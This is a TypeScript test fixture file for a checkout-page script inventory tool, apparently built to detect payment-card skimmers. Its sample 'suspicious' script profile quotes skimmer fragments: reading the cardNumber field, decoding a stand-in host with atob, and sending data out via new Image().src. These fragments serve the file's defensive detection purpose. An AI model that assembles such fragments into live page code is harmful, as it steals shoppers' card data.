import type { ComponentChildren } from 'preact';
import type { Locale } from '../../rules/_core/text.ts';
import type {
  Approval,
  HeaderValues,
  Inventory,
  InventoryRow,
  LogEntry,
  PageRow,
} from '../../rules/_inventory/inventory.ts';
import { PROFILE_VERSION, type ScriptProfile } from '../../rules/_profile/profile.ts';
import { draw } from '../testing.tsx';
import { DeskWordsContext, deskWordsOf } from '../words/desk/words.ts';

/** An inventory by hand, for tests. Not used by the product. */
export const STORE = 'https://shop.example';
export const PAGE = `${STORE}/checkout`;

/** Draws a part of the desk into a fresh element of the document, in a language. */
export function drawDesk(children: ComponentChildren, locale: Locale = 'ja'): HTMLElement {
  return draw(<DeskWordsContext value={deskWordsOf(locale)}>{children}</DeskWordsContext>, locale);
}

const HASH = '5f1d0c2a9b7e4410aa31c2d3e4f5061728394a5b6c7d8e9f0011223344556677';
const BEFORE = '0a9b8c7d6e5f40312213041526374859607182930a1b2c3d4e5f60718293a4b5';

/** An external script that is read, unremarkable and not approved. */
export function sampleScript(change: Partial<InventoryRow> = {}): InventoryRow {
  const url = 'https://js.payments.example/v3/token.js';
  return {
    ...{ store: STORE, key: `external ${url}`, name: 'js.payments.example/v3/token.js', url },
    ...{ kind: 'external', host: 'js.payments.example', vendor: 'Payments Inc.' },
    ...{ provenance: { by: 'parser', url: '' }, integrity: 'none', text: 'read', hash: HASH },
    ...{ shape: '00aa11bb22cc33dd', size: 48_210, varying: false, verdict: 'clean' },
    ...{ status: 'unapproved', changes: [], reason: '', approval: null, pages: [PAGE] },
    ...{ firstSeen: '2026-10-01T01:00:00.000Z', lastSeen: '2026-11-22T03:05:00.000Z' },
    versions: [
      {
        hash: HASH,
        size: 48_210,
        from: '2026-11-02T01:00:00.000Z',
        to: '2026-11-22T03:05:00.000Z',
      },
    ],
    ...change,
  };
}

export function sampleApproval(change: Partial<Approval> = {}): Approval {
  return {
    ...{ by: '店長 山田', at: '2026-11-03T02:00:00.000Z', reason: 'カード決済に必要' },
    ...{ hash: HASH, shape: '00aa11bb22cc33dd' },
    ...{ provenance: { by: 'parser', url: '' }, integrity: 'none' },
    ...change,
  };
}

const tagManager = 'https://www.tags.example/gtm.js';

/** One script of each status, of each kind, with what there is to say of them. */
export function sampleRows(): InventoryRow[] {
  return [
    sampleScript({
      ...{ status: 'approved', approval: sampleApproval() },
      reason: 'カード番号をトークンに替えるため、決済会社が指定しているもの',
    }),
    sampleScript({
      ...{
        key: `external ${tagManager}`,
        url: tagManager,
        name: 'www.tags.example/gtm.js?id=GTM-AB12',
      },
      ...{ host: 'www.tags.example', vendor: 'Tags', status: 'changed', changes: ['text'] },
      ...{ verdict: 'review', reason: '広告の効果を測るため' },
      approval: sampleApproval({ hash: BEFORE, reason: '広告の効果測定' }),
      versions: [
        {
          ...{ hash: HASH, size: 91_002 },
          ...{ from: '2026-11-20T01:00:00.000Z', to: '2026-11-22T03:05:00.000Z' },
        },
        {
          ...{ hash: BEFORE, size: 90_412 },
          ...{ from: '2026-10-01T01:00:00.000Z', to: '2026-11-18T01:00:00.000Z' },
        },
      ],
    }),
    sampleScript({
      ...{ key: 'external https://static.widget.example/w/loader.min.js', changes: ['new'] },
      ...{ url: 'https://static.widget.example/w/loader.min.js', vendor: null },
      ...{ name: 'static.widget.example/w/loader.min.js', host: 'static.widget.example' },
      ...{ verdict: 'suspicious', provenance: { by: 'tag-manager', url: tagManager } },
    }),
    sampleScript({
      ...{ key: 'inline 00aa', kind: 'inline', name: '<script> 00aa11', url: PAGE, host: '' },
      ...{ vendor: null, integrity: 'nonce', size: 812 },
    }),
    sampleScript({
      ...{ key: 'external https://chat.example/c.js', url: 'https://chat.example/c.js' },
      ...{ name: 'chat.example/c.js', host: 'chat.example', vendor: 'Chat Co.' },
      ...{ text: 'not-available', hash: null, size: null, verdict: null, versions: [] },
    }),
    sampleScript({
      ...{ key: 'external https://old.example/a.js', url: 'https://old.example/a.js' },
      ...{ name: 'old.example/a.js', host: 'old.example', vendor: null, status: 'gone' },
      ...{ approval: sampleApproval(), changes: ['gone'], integrity: 'sri' },
    }),
  ];
}

export const HEADERS: HeaderValues = {
  'content-security-policy': "script-src 'self' https://js.payments.example; object-src 'none'",
  'content-security-policy-report-only': null,
  'strict-transport-security': 'max-age=31536000',
  'x-frame-options': 'DENY',
  'referrer-policy': null,
  'permissions-policy': null,
};

/** A page whose policy lets in one more host, and whose frame options are gone, since it was approved. */
export function samplePage(change: Partial<PageRow> = {}): PageRow {
  return {
    ...{ store: STORE, page: PAGE, lastVisit: '2026-11-22T03:05:00.000Z' },
    headers: {
      ...HEADERS,
      'content-security-policy':
        "script-src 'self' https://js.payments.example https://static.widget.example; object-src 'none'",
      'x-frame-options': null,
    },
    approved: {
      ...{ by: '店長 山田', at: '2026-11-03T02:00:00.000Z', reason: '公開時の設定' },
      headers: HEADERS,
    },
    ...change,
  };
}

const at = (day: number): string => new Date(Date.UTC(2026, 9, 1 + day, 1)).toISOString();

/** A store with one script of each status, some visits and a log with an entry of each kind. */
export function sampleInventory(change: Partial<Inventory> = {}): Inventory {
  const rows = sampleRows();
  const entry = { store: STORE, page: PAGE };
  const [token, tags] = rows;
  const tagged = { key: tags?.key ?? '', name: tags?.name ?? '' };
  const log: LogEntry[] = [
    { ...entry, at: at(0), what: 'new', ...tagged, before: null, now: BEFORE },
    {
      ...{
        ...entry,
        page: '',
        at: at(33),
        what: 'approved',
        by: '店長 山田',
        reason: '公開時の確認',
      },
      keys: [token?.key ?? '', tags?.key ?? ''],
    },
    { ...entry, at: at(33), what: 'approved', by: '店長 山田', reason: '設定', keys: ['header'] },
    { ...entry, at: at(50), what: 'text', ...tagged, before: BEFORE, now: HASH },
    {
      ...entry,
      at: at(50),
      what: 'inserter',
      ...tagged,
      before: 'parser',
      now: `script ${tagManager}`,
    },
    { ...entry, at: at(50), what: 'integrity', ...tagged, before: 'sri', now: 'none' },
    { ...entry, at: at(51), what: 'header', header: 'x-frame-options', before: 'DENY', now: null },
    { ...entry, page: '', at: at(52), what: 'withdrawn', by: '店長 山田', keys: [tagged.key] },
  ];
  const visits = Array.from({ length: 18 }, (_, n) => ({
    ...{ store: STORE, page: PAGE, at: at(n * 3) },
    counts: {
      approved: n < 11 ? 0 : 4,
      unapproved: n < 11 ? 4 + Math.floor(n / 4) : n > 15 ? 2 : 0,
      changed: n > 15 ? 1 : 0,
      gone: n > 13 ? 1 : 0,
    },
  }));
  return { store: STORE, rows, pages: [samplePage()], visits, log, ...change };
}

/** What a text that was found suspicious says of itself. */
export function sampleProfile(change: Partial<ScriptProfile> = {}): ScriptProfile {
  return {
    ...{ version: PROFILE_VERSION, verdict: 'suspicious', reason: null, read: 'parsed' },
    ...{
      characters: 8120,
      score: 46,
      escapedShare: 0.1,
      obfuscated: true,
      shape: '00aa11bb22cc33dd',
    },
    signals: [
      {
        ...{ kind: 'collects-card', start: 10, end: 60, line: 3, detail: 'cardNumber', weight: 20 },
        excerpt: "document.querySelector('[name=cardNumber]').value",
      },
      {
        ...{ kind: 'encoded-host', start: 90, end: 130, line: 5, weight: 15 },
        ...{ detail: 'collect.example', excerpt: "atob('Y29sbGVjdC5leGFtcGxl')" },
      },
      {
        ...{ kind: 'sink', start: 140, end: 180, line: 6, detail: 'new Image', weight: 11 },
        excerpt: "new Image().src = 'https://' + h + '/?' + d",
      },
      {
        ...{ kind: 'checkout-gate', start: 2, end: 8, line: 1, detail: '/checkout', weight: 3 },
        excerpt: 'if (/checkout/.test(location.href))',
      },
    ],
    hosts: [
      { host: 'collect.example', encoded: true },
      { host: 'static.widget.example', encoded: false },
    ],
    libraries: [{ name: 'jquery', version: '3.4.1' }],
    ...change,
  };
}
